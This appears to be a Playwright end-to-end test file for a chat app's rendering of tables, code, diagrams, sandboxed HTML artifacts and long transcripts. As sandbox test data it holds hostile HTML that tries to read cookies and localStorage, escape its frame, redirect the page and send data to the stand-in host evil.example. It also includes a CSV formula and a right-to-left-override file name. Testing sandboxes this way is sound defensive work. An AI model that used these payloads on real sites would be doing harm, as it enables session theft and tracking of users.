"""What answers are made of: tables, code, diagrams, what code makes, and conversations of any length."""

import re
from collections.abc import Iterator, Sequence

import pytest
from playwright.sync_api import Browser, Page, expect
from psycopg.types.json import Json
from uuid_utils.compat import uuid7

from tests.e2e.attackers import database
from tests.e2e.conftest import EMAIL, Product, ask
from tests.e2e.test_accessibility import grave

ANSWER = """A table:

| City | People | Note |
|---|---:|---|
| Berlin | 3,755,251 | =SUM(A1) |
| Rome | 2,755,309 | "old", and big |
| Bern | 134,794 | |

```python title="src/../greet\u202e.py"
print("a line that is much too long for the width of a block of code on any phone that there is")
```

```mermaid
flowchart LR
  A[Ask] --> B{Known?}
```

```mermaid
flowchart LR
  A[ -->
```
"""
# All that a page of a stranger would try, from within its frame.
HOSTILE_PAGE = """```html
<title>Escape</title><link rel="stylesheet" href="https://evil.example/style.css"><img src="https://evil.example/image.png">
<form id="f" action="https://evil.example/form"><input name="a" value="b"></form><p id="out">nothing ran</p>
<script>
const told = ["ran"];
const attempt = (name, act) => {
  try { told.push(`${name}: ${act()}`); } catch (error) { told.push(`${name} refused`); }
};
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.document.title);
attempt("storage", () => localStorage.length);
attempt("top", () => { top.location = "https://evil.example/top"; });
attempt("window", () => open("https://evil.example/window") === null ? "null" : "opened");
attempt("dialog", () => alert("here"));
attempt("form", () => f.submit());
fetch("https://evil.example/fetch").catch(() => {});
fetch("/api/me").then((answer) => answer.text()).then((text) => { out.textContent += text; }, () => {});
new Image().src = "https://evil.example/pixel";
out.textContent = told.join(", ");
</script>
```"""
LEAVING_PAGE = """```html
<title>Leave</title><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<script>setTimeout(() => { location = "https://evil.example/self?" + navigator.userAgent; }, 100);</script>
```"""

IS_WRAPPED = """() => {
    const code = document.querySelector("figure.code pre");
    return code.scrollWidth === code.clientWidth;
}"""
# More of each than is read in one go: a table, code with a text over many lines, a list, fences that do not close.
LONG_ANSWER = "\n\n".join(
    (
        "| Name | Amount |\n|---|---:|\n" + "".join(f"| Row *{number}* | {number}.50 |\n" for number in range(200)),
        '```python\ntext = """\n' + "words of a text\n" * 250 + '"""\nlast = 1\n```',
        "".join(f"- point **{number}** with words and `code`\n" for number in range(120)),
        "".join(f"{'`' * (3 + number % 2)}python\nprint({number})\n~~~\n\nmore {number}\n\n" for number in range(60)),
        "The end.",
    )
)
# What is read as Markdown is looked through for code first. Notes how much of it is, each time.
COUNT = """
    window.parsed = [];
    const split = String.prototype.split;
    String.prototype.split = function (sign, limit) {
        if (sign instanceof RegExp && sign.source.includes("~~~")) window.parsed.push(String(this));
        return split.call(this, sign, limit);
    };
    window.mostRows = 0;
    const rowsIn = (node) => (node.tagName === "TR") + (node.querySelectorAll?.("tr").length ?? 0);
    new MutationObserver((changes) => {
        const rows = changes.flatMap(({ addedNodes }) => [...addedNodes]).reduce((sum, node) => sum + rowsIn(node), 0);
        window.mostRows = Math.max(window.mostRows, rows);
    }).observe(document, { childList: true, subtree: true });
"""
PARSED = """() => {
    const times = new Map();
    for (const text of parsed) times.set(text, (times.get(text) ?? 0) + 1);
    return [Math.max(...parsed.map(text => text.length)), Math.max(...times.values()), mostRows];
}"""
MOST_AT_ONCE = 5_000
MOST_ROWS = 110

STEP = 900
# Remembers what stands in the middle of the screen, and where; says whether a message is there, and nothing above it.
MARK = """message => {
    const view = document.querySelector(".transcript-view");
    const { top, height } = view.getBoundingClientRect();
    const all = [...view.querySelectorAll("article")];
    window.anchor = all.find((one) => one.getBoundingClientRect().bottom > top + height / 2);
    window.before = window.anchor.getBoundingClientRect().top;
    window.first = all[0];
    return view.scrollTop === 0 && all[0].dataset.messageId === message;
}"""
# No further than the wheel went, once what comes in above has come: nobody turns the wheel meanwhile.
HAS_MOVED = """([step, message]) => {
    const view = document.querySelector(".transcript-view");
    window.rests = window.last === view.scrollTop ? window.rests + 1 : 0;
    window.last = view.scrollTop;
    if (window.rests < 5) return false;
    const moved = window.anchor.getBoundingClientRect().top - window.before;
    const isLoaded = view.scrollTop > 1500 || view.querySelector("article").dataset.messageId === message;
    return isLoaded && moved > 0 && moved < step + 3;
}"""
# At the very top, what was there stays where it was when more comes in above it.
HAS_MORE = """() => {
    const view = document.querySelector(".transcript-view");
    const lower = window.first.getBoundingClientRect().top - view.getBoundingClientRect().top;
    return view.querySelector("article") !== window.first && Math.abs(lower) < 100;
}"""


def plant(product: Product, texts: Sequence[str]) -> tuple[str, list[str]]:
    """A conversation of the owner's with these questions and answers; its id and theirs."""
    conversation, *messages = [str(uuid7()) for _ in range(len(texts) + 1)]
    database(
        product,
        "INSERT INTO conversation (id, workspace_id, owner_id, title)"
        " SELECT %s, m.workspace_id, a.id, 'Planted' FROM account AS a JOIN membership AS m ON m.account_id = a.id"
        " WHERE a.email = %s",
        conversation, EMAIL,
    )  # fmt: skip
    database(
        product,
        "INSERT INTO message (id, workspace_id, conversation_id, parent_id, role, status, parts)"
        " SELECT n.id, c.workspace_id, c.id, n.parent_id, n.role, 'done', n.parts FROM conversation AS c, unnest("
        "CAST(%s AS uuid[]), CAST(%s AS uuid[]), CAST(%s AS text[]), CAST(%s AS jsonb[])"
        ") AS n (id, parent_id, role, parts) WHERE c.id = %s",
        messages, [None, *messages[:-1]], [("user", "assistant")[number % 2] for number in range(len(texts))],
        [Json([{"type": "text", "text": text}]) for text in texts], conversation,
    )  # fmt: skip
    database(
        product,
        "INSERT INTO conversation_view (conversation_id, account_id, workspace_id, active_leaf_id)"
        " SELECT id, owner_id, workspace_id, %s FROM conversation WHERE id = %s",
        messages[-1], conversation,
    )  # fmt: skip
    return conversation, messages


@pytest.fixture
def tab(browser: Browser, product: Product, owner_cookies: list[dict[str, object]]) -> Iterator[Page]:
    """The owner's tab, in which no dialog opens and no script fails, and from which nothing goes elsewhere.

    What the policy of a page forbids never comes as far as to be routed.
    """
    context = browser.new_context(locale="en-US", base_url=product.url, viewport={"width": 1280, "height": 800})
    context.add_cookies(owner_cookies)  # pyright: ignore[reportArgumentType]
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    seen: list[str] = []
    context.route(re.compile("evil.example"), lambda route: (seen.append(route.request.url), route.abort()))
    page = context.new_page()
    page.on("dialog", lambda dialog: seen.append(f"dialog {dialog.message}"))
    page.on("pageerror", lambda error: seen.append(f"error {error}"))
    page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
    yield page
    context.close()
    assert seen == []


def test_tables_code_and_diagrams_can_be_used(tab: Page, product: Product) -> None:
    conversation, _ = plant(product, ["Show me", ANSWER])
    tab.goto(f"/chat/{conversation}")
    sort = tab.get_by_test_id("table-sort")
    expect(sort).to_have_count(3)
    first = tab.locator(".prose-table tbody td:first-child")
    sort.nth(1).focus()
    tab.keyboard.press("Enter")
    expect(first).to_have_text(["Bern", "Rome", "Berlin"])
    expect(tab.locator("th").nth(1)).to_have_attribute("aria-sort", "ascending")
    tab.keyboard.press("Enter")
    expect(first).to_have_text(["Berlin", "Rome", "Bern"])
    tab.keyboard.press("Enter")
    sort.first.click()
    expect(first).to_have_text(["Berlin", "Bern", "Rome"])
    tab.get_by_test_id("table-copy").click()
    expect(tab.get_by_test_id("table-copy")).to_have_text("Copied")
    copied = tab.evaluate("navigator.clipboard.readText()").splitlines()
    assert copied == [
        "City,People,Note",
        'Berlin,"3,755,251",\'=SUM(A1)',
        'Bern,"134,794",',
        'Rome,"2,755,309","""old"", and big"',
    ]
    code = tab.locator("figure.code pre").first
    expect(code.locator(".hljs-built_in")).to_have_count(1)
    assert code.evaluate("code => code.scrollWidth > code.clientWidth")
    tab.get_by_test_id("code-wrap").first.click()
    tab.wait_for_function(IS_WRAPPED)
    with tab.expect_download() as download:
        tab.get_by_test_id("code-download").first.click()
    assert download.value.suggested_filename == "greet.py"
    expect(tab.locator("[data-testid=diagram][data-drawn=true] img")).to_have_attribute("alt", re.compile("Known"))
    expect(tab.get_by_test_id("diagram-broken")).to_be_visible()
    assert grave(tab) == []


def test_an_answer_is_copied_as_it_looks_and_as_it_was_written(tab: Page, product: Product) -> None:
    conversation, _ = plant(product, ["Show me", f"{ANSWER}\n**Bold** & [a link](https://example.org/)\n"])
    tab.goto(f"/chat/{conversation}")
    expect(tab.get_by_test_id("diagram-broken")).to_be_visible()
    tab.get_by_test_id("message-more").click()
    tab.get_by_test_id("message-copy-formatted").click()
    read = """async () => {
        const [item] = await navigator.clipboard.read();
        const kinds = item.types.map(async (type) => [type, await (await item.getType(type)).text()]);
        return Object.fromEntries(await Promise.all(kinds));
    }"""
    tab.wait_for_function("async () => (await navigator.clipboard.read())[0]?.types.includes('text/html')")
    copied = tab.evaluate(read)
    assert copied["text/plain"].startswith("A table:\n\n| City | People | Note |")
    form = copied["text/html"]
    for part in (
        "<table>",
        "<td>Berlin</td>",
        "<strong>Bold</strong>",
        '<a href="https://example.org/">a link',
        "<pre",
    ):
        assert part in form, part
    for part in ("<button", "class=", "onclick", "<svg", "data-testid", "Copy"):
        assert part not in form, part


def test_what_an_answer_makes_is_seen_and_reaches_nothing(tab: Page, product: Product) -> None:
    older = "```html\n<title>Escape</title><p>first version</p>\n```"
    conversation, _ = plant(product, ["Make it", older, "Better", HOSTILE_PAGE, "And?", LEAVING_PAGE])
    tab.goto(f"/chat/{conversation}")
    tab.get_by_test_id("artifact-open").nth(1).click()
    panel = tab.get_by_test_id("artifact-panel")
    expect(panel.locator("h2")).to_have_text("Escape")
    inside = tab.frame_locator("[data-testid=artifact-frame]").locator("#out")
    expect(inside).to_have_text(
        "ran, cookie refused, parent refused, storage refused, top refused, window: null, dialog: undefined,"
        " form: undefined"
    )
    assert tab.url.endswith(conversation)
    panel.get_by_test_id("artifact-code").click()
    expect(panel.locator("pre")).to_contain_text("evil.example/fetch")
    expect(panel.get_by_test_id("artifact-version")).to_have_text("Version 2 of 2")
    panel.get_by_test_id("artifact-earlier").click()
    expect(panel.get_by_test_id("artifact-version")).to_have_text("Version 1 of 2")
    panel.get_by_test_id("artifact-preview").click()
    expect(tab.frame_locator("[data-testid=artifact-frame]").locator("p")).to_have_text("first version")
    assert grave(tab) == []
    tab.keyboard.press("Escape")
    expect(panel).to_have_count(0)
    tab.get_by_test_id("artifact-open").last.click()
    expect(panel.locator("h2")).to_have_text("Leave")
    # It tried, and the browser's own page about that, if it has one, is in its place.
    left = tab.frame_locator("[data-testid=artifact-frame]").locator("title", has_text="Leave")
    expect(left).to_have_count(0)
    assert tab.url.endswith(conversation)


def test_long_answers_are_read_in_small_pieces_and_none_again_and_again(tab: Page, product: Product) -> None:
    product.provider.provider.texts = {"long": LONG_ANSWER}
    tab.add_init_script(COUNT)
    tab.goto("/chat")
    ask(tab, "[[said=long rate=3000]] All of it")
    text = tab.locator("[data-testid=message][data-role=assistant]")
    expect(text).to_have_attribute("data-status", "done", timeout=60_000)
    expect(tab.locator(".long-text")).to_have_attribute("aria-busy", "false")
    longest, most_times, most_rows = tab.evaluate(PARSED)
    assert longest <= MOST_AT_ONCE
    assert 1 < most_rows <= MOST_ROWS
    # While it grows, and as it stays.
    assert most_times <= 2

    table = tab.get_by_test_id("table-sort").first
    table.scroll_into_view_if_needed()
    expect(tab.locator(".prose-table")).to_have_count(1)
    table.click()
    table.click()
    expect(tab.locator("tbody tr")).to_have_count(200)
    expect(tab.locator("tbody td").first).to_have_text("Row 199")
    expect(tab.locator("li strong")).to_have_text([str(number) for number in range(120)])
    code = tab.locator("figure.code code").first
    code.scroll_into_view_if_needed()
    expect(code.locator(".code-piece").last.locator(".hljs-number")).to_have_text("1")
    expect(code.locator(".code-piece").nth(1).locator(".hljs-string")).to_have_count(1)
    expect(text).to_contain_text("The end.")


def test_a_long_conversation_is_read_in_windows(tab: Page, product: Product) -> None:
    conversation, messages = plant(product, [f"Message {number}. " + "word " * 100 for number in range(160)])
    tab.goto(f"/chat/{conversation}")
    shown = tab.get_by_test_id("message")
    expect(shown.last).to_contain_text("Message 159.")
    tab.locator(".transcript-view").hover()
    tab.evaluate(MARK, messages[0])
    tab.mouse.wheel(0, -100_000)
    tab.wait_for_function(HAS_MORE)
    most = steps = 0
    while not tab.evaluate(MARK, messages[0]):
        tab.mouse.wheel(0, -STEP)
        tab.wait_for_function(HAS_MOVED, arg=[STEP, messages[0]])
        most, steps = max(most, shown.count()), steps + 1
        assert steps < 400
    assert most <= 120
    expect(tab.locator(f"[data-message-id='{messages[0]}']")).to_be_attached()
    expect(tab.get_by_test_id("messages-later")).to_be_attached()
    tab.get_by_test_id("jump-down").click()
    expect(shown.last).to_contain_text("Message 159.")
    expect(shown.last).to_be_in_viewport()
    expect(tab.get_by_test_id("jump-down")).to_have_count(0)
